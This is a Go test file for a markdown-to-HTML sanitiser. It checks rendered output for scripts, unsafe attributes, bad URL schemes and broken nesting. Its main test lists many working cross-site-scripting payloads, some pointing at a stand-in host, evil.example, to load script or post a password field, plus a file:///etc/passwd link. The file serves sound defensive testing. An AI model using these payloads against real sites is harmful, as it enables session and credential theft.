package render

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// safeAttributes are all attributes that may come out.
var safeAttributes = set("href src cite alt width height title dir lang datetime open align colspan rowspan scope span start reversed type " +
	"value checked disabled id class role")

// around are elements that a page may put what it shows into; none of them may be ended from within.
var around = []string{"blockquote", "table", "tbody", "tr", "td", "ul", "li", "dl", "dd", "ruby", "figure", "details", "div", "section"}

// within returns markup as it stands in a page.
func within(markup string) string {
	var before, after string
	for _, name := range around {
		before += "<" + name + " data-around>"
		after = "</" + name + ">" + after
	}
	return "<!DOCTYPE html><body>" + before + markup + after + "<address data-around></address>"
}

// checkSafe parses HTML as a browser does, within an element of a page, and fails where anything comes of it that could run
// something, lead to where a post must not lead, or end the element that it stands in.
func checkSafe(t *testing.T, rendered Rendered) {
	t.Helper()
	if strings.ContainsAny(rendered.Text+rendered.Lead, "\x01\x02") || strings.ContainsAny(rendered.HTML, "\x00\x01\x02") {
		t.Errorf("control characters in %q", rendered.Text)
	}
	if again := sanitise(rendered.HTML); again != rendered.HTML {
		t.Errorf("sanitising once more changes\n%q to\n%q", rendered.HTML, again)
	}
	document, err := html.Parse(strings.NewReader(within(rendered.HTML)))
	if err != nil {
		t.Fatalf("%v: %q", err, rendered.HTML)
	}
	ids := map[string]bool{}
	surroundings := 0
	for node := range document.Descendants() {
		inside := slices.ContainsFunc(slices.Collect(node.Ancestors()), func(above *html.Node) bool { return above.Data == "section" })
		switch {
		case node.Type == html.CommentNode:
			t.Errorf("a comment in %q", rendered.HTML)
		case node.Type == html.TextNode && !inside:
			t.Errorf("%q stands outside of its place: %q", node.Data, rendered.HTML)
		}
		if node.Type != html.ElementNode || slices.Contains([]string{"html", "head", "body"}, node.Data) {
			continue
		}
		if slices.ContainsFunc(node.Attr, func(a html.Attribute) bool { return a.Key == "data-around" }) {
			surroundings++
			if node.Data == "address" && node.Parent.Data != "body" {
				t.Errorf("an element is left open by %q", rendered.HTML)
			}
			continue
		}
		if !elements[node.Data] || node.Namespace != "" {
			t.Errorf("element %s (%q) in %q", node.Data, node.Namespace, rendered.HTML)
		}
		if !inside {
			t.Errorf("<%s> stands outside of its place: %q", node.Data, rendered.HTML)
		}
		for _, attribute := range node.Attr {
			if !safeAttributes[attribute.Key] {
				t.Errorf("attribute %s in %q", attribute.Key, rendered.HTML)
			}
			switch attribute.Key {
			case "href", "src", "cite":
				address, err := url.Parse(attribute.Val)
				if err != nil || !slices.Contains([]string{"", "http", "https", "mailto"}, strings.ToLower(address.Scheme)) {
					t.Errorf("address %q in %q", attribute.Val, rendered.HTML)
				}
			case "id":
				if ids[attribute.Val] {
					t.Errorf("id %q twice in %q", attribute.Val, rendered.HTML)
				}
				ids[attribute.Val] = true
				if node.Data != "li" && node.Data != "sup" && !headings[node.Data] {
					t.Errorf("an id on <%s> in %q", node.Data, rendered.HTML)
				}
			}
		}
	}
	if surroundings != len(around)+1 {
		t.Errorf("what is around the page was changed by %q", rendered.HTML)
	}
}

func TestMarkdownIsSafe(t *testing.T) {
	sources := []string{
		// scripts and what is like them
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		"<script\n>alert(1)</script\n>", `<script/x>alert(1)</script>`, `<<script>alert(1)//<</script>`, `<script>alert(1)`,
		`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=x></object>`, `<embed src=x>`,
		`<applet code=x>`, `<frameset onload=alert(1)>`, `<portal src=x>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<style>*{background:url(javascript:alert(1))}</style>`, `<link rel=stylesheet href=//evil.example>`, `<style>@import '//evil.example';`,
		`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<base href="//evil.example/">`, `<title>x</title>`, `<template><script>alert(1)</script></template>`,
		// forms
		`<form action="//evil.example"><input name=password type=password><button>Go</button></form>`, `<input type=text>`, `<input disabled>`,
		`<input type=checkbox>`, `<input type=image src=x onerror=alert(1)>`, `<textarea><img src=x onerror=alert(1)></textarea>`, `<select><option>a</select>`,
		`<button formaction=javascript:alert(1)>x</button>`, `<isindex action=javascript:alert(1)>`, `<keygen autofocus onfocus=alert(1)>`,
		// events
		`<img src=x onerror=alert(1)>`, `<img src=x:x onerror  =  alert(1)>`, `<p onclick="alert(1)">x</p>`, `<a href=x ONMOUSEOVER=alert(1)>x</a>`,
		`<details open ontoggle=alert(1)>x</details>`, `<img/src=x/onerror=alert(1)>`, "<img src=x\nonerror\n=alert(1)>", `<img src="x" onerror="alert(1)"/>`,
		`<b/onpointerenter=alert(1)>x</b>`, `<body onload=alert(1)>`, `<p style="behavior:url(x)" onfocus=alert(1) tabindex=0 autofocus>`, `<img src='x'onerror=alert(1)>`,
		`<p title="x" "onclick=alert(1)">x</p>`, "<p title=`x` onclick=alert(1)>x</p>", `# a {onclick="alert(1)" style="color:red"}`,
		// addresses
		`[a](javascript:alert(1))`, `[a](JaVaScRiPt:alert(1))`, `[a](javascript&colon;alert(1))`, `[a](&#106;avascript:alert(1))`, `[a](&#x6A&#x61vascript:alert(1))`,
		`[a](java&#9;script:alert(1))`, `[a](java&#10;script:alert(1))`, `[a](java&Tab;script:alert(1))`, `[a](&#1;javascript:alert(1))`, `[a](<java` + "\t" + `script:alert(1)>)`,
		`[a](javascript%3Aalert(1))`, `[a](vbscript:msgbox(1))`, `[a](data:text/html,<script>alert(1)</script>)`, `[a](data:text/html;base64,PHNjcmlwdD4=)`,
		`[a](data:image/svg+xml,<svg onload=alert(1)>)`, `![a](data:image/svg+xml;base64,PHN2Zz4=)`, `![a](data:image/png;base64,iVBORw0KGgo=)`, `![a](javascript:alert(1))`,
		`<javascript:alert(1)>`, `<a href="  javascript:alert(1)">x</a>`, `<a href="java` + "\n" + `script:alert(1)">x</a>`, `<a href="&#x1;javascript:alert(1)">x</a>`,
		`<a href="javascript` + "\u00a0" + `:alert(1)">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="blob:x">x</a>`, `<a href="filesystem:x">x</a>`, `<a href="ftp://x">x</a>`,
		`<blockquote cite="javascript:alert(1)">x</blockquote>`, `<a xlink:href="javascript:alert(1)">x</a>`, `<a href=x ping=//evil.example>x</a>`, `<a href=x target=_blank>x</a>`,
		`[a]: javascript:alert(1)` + "\n\n[a]", `[a](<javascript:alert(1)> "t")`, `[a](x "\" onclick=alert(1) x=\"")`, `![" onerror="alert(1)](x)`, `![a](x"onerror="alert(1))`,
		`[a](//evil.example)`, `[a](\\evil.example)`, `<a href="jav&#x0A;ascript:alert(1)">`, `<a href="https:javascript:alert(1)">x</a>`,
		// pictures and other vocabularies
		`<img srcset="javascript:alert(1) 1x">`, `<picture><source srcset=x></picture>`, `<video src=x onerror=alert(1)>`, `<audio><source onerror=alert(1)></audio>`,
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg/><img src=x onerror=alert(1)>`,
		`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<math href="javascript:alert(1)">x</math>`,
		`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<math><mi//xlink:href="data:x,<script>alert(4)</script>">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
		// what parsers read differently
		`<!--><img src=x onerror=alert(1)>-->`, `<!--!><script>alert(1)</script>-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`,
		`<!DOCTYPE x [<!ENTITY y "z">]>`, `</script><img src=x onerror=alert(1)>`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`, `<plaintext><script>`,
		`<a title="</a><img src=x onerror=alert(1)>">`, `<p title='"><script>alert(1)</script>'>`, `<x<img src=x onerror=alert(1)>`, `</ <img src=x onerror=alert(1)>`, `&lt;script&gt;alert(1)&lt;/script&gt;`,
		"`<script>`", "```html\n<script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\nx\n```", "    <script>alert(1)</script>", `\<script>alert(1)\</script>`,
		`<img alt="` + "`" + `><script>alert(1)</script>">`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, "<\x00script>alert(1)</script>", "<scr\x01ipt>alert(1)</script>", `<scr&#1;ipt>alert(1)</script>`,
		// style, classes, ids
		`<p style="position:fixed;inset:0">x</p>`, `<p class="modal">x</p>`, `<span class="fixed inset-0">x</span>`, `<a id=body name=cookie href=x>x</a>`, `<img name=getElementById src=x>`,
		`<p id=fn:1>x</p>`, `<ol><li id=fn:1>a<li id=fn:1>b</ol>`, `<h1 id="a">x</h1><h1 id="a">y</h1>`, `<h1 id="javascript:x">x</h1>`, `<p slot=x is=y data-x=1 contenteditable accesskey=x>z</p>`,
		// what ends where it didn't begin
		`</div></div></section></body></html>x`, `<div><div>`, `<table><tr><td>`, `</table></td></tr>`, `<td>x</td>`, `<li>x`, `<tr><td>x`, `<b><i>x</b>y</i>`, `<p><table><p></table>`,
		`<ul><li><table></ul>x`, `<a href=x><a href=y>z`, `<h1><div><h2>x</h1>`, `<code><div></code>`, `<details><summary>x`, `<dl><dt><dl></dl><dd>`, `<caption><col><thead>`, `<ruby><rt><ruby>`, `<colgroup><col></table>`,
		"x</div>\n\n<div>\n\ny", "> <div>\n\n</div></blockquote>z", "- <ul>\n\n</ul></ul>", "<pre><code class=language-go>a</pre>b", "<pre><code class=language-go>a<b>c</b></code></pre>",
	}
	for _, source := range sources {
		t.Run(source, func(t *testing.T) { checkSafe(t, render(t, source)) })
	}
}

func TestSanitiseKeepsWhatItAllows(t *testing.T) {
	for name := range elements {
		source := "<" + name + ">x</" + name + ">"
		switch name {
		case "a":
			source = `<a href="https://example.org" title="t">x</a>`
		case "img":
			source = `<img src="/a.png" alt="b" width="10" height="50%">`
		case "input":
			source = `<input type="checkbox" disabled="">`
		case "br", "hr", "wbr":
			source = "<" + name + ">"
		case "li":
			source = `<ol start="3"><li value="4">x</li></ol>`
		case "dt", "dd":
			source = "<dl>" + source + "</dl>"
		case "rt", "rp":
			source = "<ruby>" + source + "</ruby>"
		case "caption", "thead", "tbody", "tfoot", "tr", "th", "td", "colgroup", "col":
			source = `<table><caption>x</caption><colgroup><col span="2"></colgroup><thead><tr><th scope="col">x</th></tr></thead>` +
				`<tbody><tr><td colspan="2">x</td></tr></tbody><tfoot><tr><td>x</td></tr></tfoot></table>`
		case "h1", "h2", "h3", "h4", "h5", "h6":
			source = "<" + name + ` id="x">x</` + name + ">"
		}
		if got := render(t, "<div>"+source+"</div>"); got.HTML != "<div>"+source+"</div>" || len(got.Removed) > 0 {
			t.Errorf("%s became %s (removed %v)", source, got.HTML, got.Removed)
		}
	}
}

func TestRemoved(t *testing.T) {
	tests := []struct {
		name, source string
		want         []Removal
	}{
		{"nothing", "# Plain *text* &amp; <b>bold</b> <!-- and a comment -->", nil},
		{"elements, counted", "<script>a</script><b>x</b><script>b</script>\n\n<center>c</center>", []Removal{{"<center>", 1}, {"<script>", 2}}},
		{"attributes of what stays", `<p onclick="a" style="b" title="c">x</p>`, []Removal{{"onclick attribute", 1}, {"style attribute", 1}}},
		{"attributes of what goes are not told apart", `<iframe src=x onload=y></iframe>`, []Removal{{"<iframe>", 1}}},
		{"a link to nowhere good", "[a](data:text/html,x)", []Removal{{"<a>", 1}, {"href attribute", 1}}},
		{"a cell without a table", "<td>x</td>", []Removal{{"<td>", 1}}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if got := render(t, test.source).Removed; !slices.Equal(got, test.want) {
				t.Errorf("got %v, want %v", got, test.want)
			}
		})
	}
}
